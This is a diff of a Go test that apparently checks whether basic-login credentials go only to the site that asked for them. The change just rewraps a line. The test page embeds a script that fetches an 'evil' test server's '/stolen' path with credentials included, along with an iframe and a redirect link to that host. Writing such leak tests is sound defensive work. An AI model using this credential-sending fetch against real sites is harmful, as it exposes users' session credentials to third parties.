@@ -98,7 +98,8 @@ func TestASiteThatAsksForABasicLoginGetsItAndNobodyElse(t *testing.T) {
 	pages := map[string]string{
 		"/": `<h1>Console</h1><img src=/logo.png><a href="/out?to=` + evil.URL + `/landed">Out</a><a href=/second>Second</a>
 			<a href=/popup target=_blank>Popup</a><iframe src="` + strings.Replace(evil.URL, "127.0.0.1", "localhost", 1) +
-			`/frame"></iframe><script>fetch('/api'); fetch('` + evil.URL + `/stolen', {credentials: 'include'}).catch(() => 0)</script>`,
+			`/frame"></iframe>` +
+			`<script>fetch('/api'); fetch('` + evil.URL + `/stolen', {credentials: 'include'}).catch(() => 0)</script>`,
 		"/second": "<h1>Second</h1>", "/popup": "<h1>Popup</h1>",
 	}
 	site := newBasicSite(t, pages)
